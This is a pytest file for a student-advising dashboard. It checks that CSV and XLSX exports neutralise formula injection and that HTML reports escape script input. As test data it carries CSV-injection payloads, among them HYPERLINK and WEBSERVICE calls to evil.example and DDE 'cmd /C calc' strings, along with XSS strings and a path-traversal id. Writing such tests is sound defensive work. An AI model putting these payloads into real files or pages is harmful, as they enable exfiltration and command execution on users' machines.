"""Exports are safe to open in Excel and say exactly what they should."""

from __future__ import annotations

import csv
import io
import zipfile

import openpyxl
import pytest
from python_calamine import CalamineWorkbook

from dashboard.config import Config
from dashboard.exports import csv_bytes, export_relation, safe_text, xlsx_bytes
from dashboard.sql import connect
from tests.conftest import AS_OF, load_rows

PLACEHOLDERS = {"", "-", "--", "?", "n/a", "na", "tbd", "unknown"}

PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "=WEBSERVICE(\"http://evil.example\")",
    "-1+cmd|' /C calc'!A0",
    '=cmd|"/C calc"!A0,"quoted, with comma"',
    "=1+1\n=2+2",
    "@",
    "-",
]
NOT_FORMULAS = ["plain", "José", "1-2", "a=b", " =leading space", "'already quoted"]
NUMBERS = ["-5", "+3", "-1.5", "42"]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_safe_text_neutralises_formula_starts(payload):
    assert safe_text(payload) == "'" + payload


@pytest.mark.parametrize("text", NOT_FORMULAS + NUMBERS)
def test_safe_text_leaves_other_text_and_plain_numbers(text):
    assert safe_text(text) == text


def test_sql_macro_and_python_rule_agree():
    con = connect()
    for text in PAYLOADS + NOT_FORMULAS + NUMBERS:
        [(safe,)] = con.execute("select excel_safe($text)", {"text": text}).fetchall()
        assert safe == safe_text(text), text


@pytest.fixture(scope="module")
def payload_export():
    rows = [
        {"student_id": payload, "name": payload, "step2ck_score": "240", "Notes": payload,
         payload: "header payload"}
        for payload in PAYLOADS
    ]
    # Every row shares the union of columns; only the first row's header payload is used.
    return load_rows(rows).flag(Config(), AS_OF)


def test_csv_export_neutralises_every_text_cell_and_header(payload_export):
    text = csv_bytes(export_relation(payload_export)).decode("utf-8-sig")
    records = list(csv.reader(io.StringIO(text, newline="")))
    header, body = records[0], records[1:]
    assert all(not cell or cell[0] not in "=+-@\t\r" for cell in header)
    for record, payload in zip(body, PAYLOADS, strict=True):
        row = dict(zip(header, record, strict=True))
        assert row["Notes"] == "'" + payload
        # Ids and names lose their edge spaces on import; what remains is still neutralised
        # (a placeholder such as "-" is no value: the id becomes ROW-<n>).
        if payload.strip().lower() not in PLACEHOLDERS:
            assert row["student_id"] == row["name"] == "'" + payload.strip(" ")
        assert row["step2ck_score"] == "240"


def test_xlsx_export_has_no_formula_and_keeps_numbers(payload_export):
    data = xlsx_bytes(payload_export)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        for name in archive.namelist():
            if name.startswith("xl/worksheets/"):
                assert b"<f>" not in archive.read(name)
    rows = CalamineWorkbook.from_filelike(io.BytesIO(data)).get_sheet_by_name("Students") \
        .to_python()
    header = rows[0]
    # SPEC v3: in XLSX the text keeps its value exactly, with Excel's quote-prefix style.
    students = openpyxl.load_workbook(io.BytesIO(data))["Students"]
    notes_column = header.index("Notes") + 1
    for position, (record, payload) in enumerate(zip(rows[1:], PAYLOADS, strict=True),
                                                 start=2):
        row = dict(zip(header, record, strict=True))
        assert row["Notes"] == payload
        assert students.cell(position, notes_column).quotePrefix
        if payload.strip().lower() not in PLACEHOLDERS:
            assert row["student_id"] == payload.strip(" ")
        assert row["step2ck_score"] == 240.0 and isinstance(row["step2ck_score"], float)


def test_xlsx_keeps_a_banner_id_as_typed_with_the_quote_prefix():
    flagged = load_rows([{"student_id": "@01919159", "name": "Ana", "Notes": "plain"}]).flag(
        Config(), AS_OF)
    sheet = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(flagged)))["Students"]
    header = [cell.value for cell in sheet[1]]
    id_cell = sheet.cell(2, header.index("student_id") + 1)
    notes_cell = sheet.cell(2, header.index("Notes") + 1)
    assert (id_cell.value, id_cell.quotePrefix, id_cell.data_type) == ("@01919159", True, "s")
    assert (notes_cell.value, notes_cell.quotePrefix) == ("plain", False)


def test_exact_csv_export_of_one_student():
    cohort = load_rows([{
        "student_id": "S1", "name": "Zoë", "stage": "M4", "step1_result": "pass",
        "step2ck_score": "241", "us_plastics_lors": "2", "surgery_lors": "1",
        "publications": "1", "presentations": "0", "us_plastics_subis": "1",
        "parallel_plan": "yes", "Notes": "-2",
    }])
    exported = export_relation(cohort.flag(Config(), AS_OF))
    selected = exported.select("student_id, name, risk_level, band, strategy, flags, unknown, "
                               "step2ck_score, parallel_plan, \"row\", Notes")
    assert csv_bytes(selected).decode("utf-8") == (
        '\ufeff"student_id","name","risk_level","band","strategy","flags","unknown",'
        '"step2ck_score","parallel_plan","row","Notes"\n'
        '"S1","Zoë","moderate","borderline","targeted_integrated","STEP2_BELOW_TARGET",'
        '"",241,true,2,"-2"\n'
    )


def test_export_can_hide_names_and_emails():
    cohort = load_rows([{"student_id": "S1", "name": "Zoë", "email": "z@example.edu"},
                        {"student_id": "S2", "name": None, "email": None}])
    exported = export_relation(cohort.flag(Config(), AS_OF), hide_personal=True)
    assert exported.select("student_id, name, email").fetchall() == [
        ("S1", "•••", "•••"), ("S2", None, None)]


class _PipeClosedAfter(io.RawIOBase):
    """A sink like a pipe whose reader went away after the first megabyte."""

    def __init__(self, limit: int) -> None:
        self.written, self.limit = 0, limit

    def writable(self) -> bool:
        return True

    def write(self, data) -> int:
        if self.written > self.limit:
            raise BrokenPipeError("reader gone")
        self.written += len(data)
        return len(data)


def test_a_failing_sink_stops_the_export_and_leaves_the_connection_usable():
    from dashboard.exports import write_csv

    con = connect()
    relation = con.sql("select range as n, 'student ' || range as label from range(300000)")
    with pytest.raises(BrokenPipeError):
        write_csv(relation, _PipeClosedAfter(1 << 20))
    [(count,)] = con.execute("select count(*) from range(10)").fetchall()
    assert count == 10


def test_xlsx_for_people_and_for_machines(tmp_path):
    """Summary first (words, priority order, real dates, fills, print set-up), then the coded
    Students sheet, Data issues and Settings; no formula anywhere."""
    import datetime as dt
    from pathlib import Path

    import openpyxl

    from dashboard.engine import load_cohort
    from dashboard.importer import read_cohort

    roster = Path(__file__).resolve().parent / "data" / "registrar_roster.xlsx"
    flagged = load_cohort(read_cohort(roster)).flag(Config(), dt.date(2026, 11, 25))
    workbook = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(flagged)))
    assert workbook.sheetnames == ["Summary", "Students", "Data issues", "Settings"]
    summary = workbook["Summary"]
    rows = list(summary.iter_rows(values_only=True))
    assert rows[0][:7] == ("#", "Student ID", "Name", "Risk", "Top reason", "Next step", "Due")
    assert [row[3] for row in rows[1:]] == ["High", "High", "High", "Moderate", "Needs data",
                                            "Low"]
    assert rows[5][4] == "Could not be checked: Step 1 result"
    assert all(isinstance(row[6], dt.datetime) for row in rows[1:])  # real dates
    assert summary.freeze_panes == "C2" and summary.auto_filter.ref == "A1:M7"
    assert summary.print_title_rows == "$1:$1"
    assert summary.page_setup.orientation == "landscape"
    assert summary.sheet_properties.pageSetUpPr.fitToPage and summary.page_setup.fitToHeight == 0
    assert summary["A2"].fill.fgColor.rgb.endswith("F6D5D1")  # high risk fill
    # From the app (materialised), "dr. fontaine" is listed as the more common "Dr. Fontaine".
    app_flagged = load_cohort(read_cohort(roster)).flag(Config(), dt.date(2026, 11, 25),
                                                        materialise=True)
    app_summary = openpyxl.load_workbook(io.BytesIO(xlsx_bytes(app_flagged)))["Summary"]
    assert {row[11] for row in app_summary.iter_rows(min_row=2, values_only=True)} == {
        "Dr. Fontaine", "Dr. Osei"}
    students = list(workbook["Students"].iter_rows(values_only=True))
    assert students[0][:7] == ("student_id", "name", "risk_level", "band", "strategy",
                               "flags", "unknown")
    assert workbook["Students"].freeze_panes == "B2"
    assert not any(str(header).startswith("threshold_") for header in students[0])
    issues = list(workbook["Data issues"].iter_rows(values_only=True))
    assert issues[0] == ("row", "column", "value", "problem", "kind")
    settings = {row[1]: row[2] for row in workbook["Settings"].iter_rows(values_only=True)}
    assert settings["as_of"] == dt.datetime(2026, 11, 25) and settings["file"] == roster.name
    for sheet in workbook:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate)


PAYLOAD_ROWS = [
    {"student_id": "P1", "name": "<img src=x onerror=alert(1)>", "stage": "M4",
     "step1_result": "FAIL - retake 3/2026", "step2ck_score": "230 (unofficial)",
     "Notes": "![x](http://canary.invalid/p.png)", "advisor": "<script>alert(1)</script>"},
    {"student_id": "P2/../x", "name": "Zoë", "stage": "M4", "step1_result": "pass",
     "us_plastics_lors": "a few", "Notes": "call back"},
]


def _pages():
    import datetime as dt

    from dashboard.advice import batch_html, summary_file_name, summary_html
    from dashboard.cohort_report import cohort_report_html

    flagged = load_rows(PAYLOAD_ROWS).flag(Config(), dt.date(2026, 11, 25), materialise=True)
    students = flagged.relation().to_arrow_table().to_pylist()
    return flagged, students, summary_html, batch_html, cohort_report_html, summary_file_name


def test_advising_summary_is_dated_marks_its_reads_and_loads_nothing():
    flagged, students, summary_html, _, _, file_name = _pages()
    page = summary_html(students[0], flagged)
    assert "As of 25 Nov 2026; generated" in page
    assert "fail (interpreted: the file says &#x27;FAIL - retake 3/2026&#x27;)" in page
    assert "230 (interpreted: the file says &#x27;230 (unofficial)&#x27;)" in page
    assert "Plan to the Match" in page and "Other columns from the file" in page
    assert "<img src=x" not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert "default-src 'none'" in page and "http://" not in page.replace(
        "http://canary.invalid", "")
    # SPEC v3 reads `two` as 2: a cell that says no number is the unreadable one here.
    assert "not read (unreadable: the file says &#x27;a few&#x27;)" in summary_html(
        students[1], flagged)
    assert file_name(students[1], flagged.as_of) == "advising-summary-P2_.._x-2026-11-25.html"
    assert "(hidden)" in summary_html(students[1], flagged, privacy=True)
    assert "Zoë" not in summary_html(students[1], flagged, privacy=True)


def test_batch_summaries_break_pages_and_the_cohort_report_embeds_its_charts():
    flagged, students, _, batch_html, cohort_report_html, _ = _pages()
    batch = batch_html(students, flagged)
    assert batch.count("<section class='student'>") == 2
    assert "section.student+section.student{break-before:page}" in batch
    report = cohort_report_html(flagged)
    assert report.count("src='data:image/svg+xml;base64,") == 4
    assert "2 of 2 students are at risk" in report
    assert "<script>" not in report and "&lt;img src=x" in report
    assert "Zoë" not in cohort_report_html(flagged, privacy=True)


def test_privacy_masks_personal_columns_the_file_carries():
    import datetime as dt

    cohort = load_rows([
        {"student_id": "S1", "name": "Zoë", "First Name": "Zoë", "Personal Email": "z@x.org",
         "Contact": "zoe.a@gmail.com", "Mobile": "555-0100", "Notes": "call back"},
    ])
    flagged = cohort.flag(Config(), dt.date(2026, 11, 25))
    headers = {key: header for key, header in cohort.extra_columns.items()}
    assert {headers[key] for key in cohort.personal_columns} == {
        "First Name", "Personal Email", "Contact", "Mobile"}
    [row] = export_relation(flagged, hide_personal=True).select(
        '"First Name", "Personal Email", Contact, Mobile, Notes, name').fetchall()
    assert row == ("•••", "•••", "•••", "•••", "call back", "•••")
    [row] = export_relation(flagged).select('"First Name", Contact').fetchall()
    assert row == ("Zoë", "zoe.a@gmail.com")


def test_the_cohort_report_prints_on_one_page(tmp_path):
    """Printed by Chromium (as a dean would print it), the report is one page."""
    import datetime as dt
    import shutil
    import subprocess

    from dashboard.cohort_report import cohort_report_html
    from dashboard.engine import load_cohort
    from dashboard.importer import read_cohort
    from dashboard.sql import sample_cohort_bytes

    chromium = shutil.which("chromium") or "/usr/bin/chromium"
    flagged = load_cohort(read_cohort(sample_cohort_bytes(), "cohort.csv")).flag(
        Config(), dt.date(2026, 11, 25), materialise=True)
    page = tmp_path / "report.html"
    page.write_text(cohort_report_html(flagged), encoding="utf-8")
    pdf = tmp_path / "report.pdf"
    subprocess.run([chromium, "--headless", "--no-sandbox", "--disable-gpu",
                    "--disable-background-networking", f"--print-to-pdf={pdf}",
                    "--no-pdf-header-footer", page.as_uri()], capture_output=True, timeout=90,
                   check=True)
    assert _pdf_pages(pdf) == 1


def _pdf_pages(pdf) -> int:
    import re

    return len(re.findall(rb"/Type\s*/Page(?![s\w])", pdf.read_bytes()))


def test_file_columns_named_like_export_columns_keep_their_own_values():
    """Every input column is carried through under a name no export column has."""
    import csv as csv_module
    import datetime as dt

    from dashboard.engine import load_cohort
    from dashboard.importer import read_cohort

    headers = ["Student_ID", "Strategy", "Band", "Flags", "Risk_Level", "Recommendations",
               "Threshold_Step2_Low", "Row", "ROW", "*", "Notes", "Notes (2)", "Notes", "notes"]
    values = [f"v{index}" for index in range(len(headers))]
    data = io.StringIO()
    writer = csv_module.writer(data)
    writer.writerow(["id", *headers])
    writer.writerow(["S1", *values])
    cohort = load_cohort(read_cohort(data.getvalue().encode(), "collide.csv"))
    exported = export_relation(cohort.flag(Config(), dt.date(2026, 11, 25)))
    text = csv_bytes(exported).decode("utf-8-sig")
    [header, row] = list(csv_module.reader(io.StringIO(text)))
    record = dict(zip(header, row, strict=True))
    assert len(header) == len({name.casefold() for name in header})  # no two alike
    carried = [name for name in header if record[name] in values]
    assert sorted(record[name] for name in carried) == sorted(values)  # every value kept
    assert record["strategy"] == "pending" and record["Strategy (input)"] == "v1"
    assert record["row"] == "2" and record["threshold_step2_low"] == "235"
